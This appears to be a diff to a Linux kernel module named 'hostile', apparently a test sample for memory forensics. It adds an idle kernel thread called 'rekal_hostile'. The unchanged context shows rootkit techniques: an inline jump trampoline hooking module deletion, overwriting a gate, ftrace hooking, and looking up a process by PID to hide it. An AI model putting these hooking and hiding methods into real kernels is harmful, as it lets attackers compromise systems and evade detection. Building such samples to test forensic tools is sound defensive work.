@@ -7,6 +7,7 @@
 #include <linux/fs.h>
 #include <linux/keyboard.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
 #include <linux/module.h>
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
@@ -129,6 +130,15 @@ static void replace_gate(void) {
     overwrite(gate, &other, sizeof other);
 }
 
+// --- A thread of the kernel.
+static int hostile_thread(void *data) {
+    while (!kthread_should_stop()) {
+        set_current_state(TASK_INTERRUPTIBLE);
+        schedule();
+    }
+    return 0;
+}
+
 static int __init hostile_init(void) {
     unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0}; // mov rax, imm64; jmp rax
     unsigned long to = (unsigned long)hostile_delete_module;
@@ -165,6 +175,7 @@ static int __init hostile_init(void) {
     if (ftrace_set_filter(&tracing, filter, strlen(filter), 1) || register_ftrace_function(&tracing))
         pr_info("GT: no tracing\n");
     for_each_kernel_tracepoint(listen, NULL);
+    kthread_run(hostile_thread, NULL, "rekal_hostile");
 
     rcu_read_lock();
     task = pid_task(find_vpid(hide), PIDTYPE_PID);
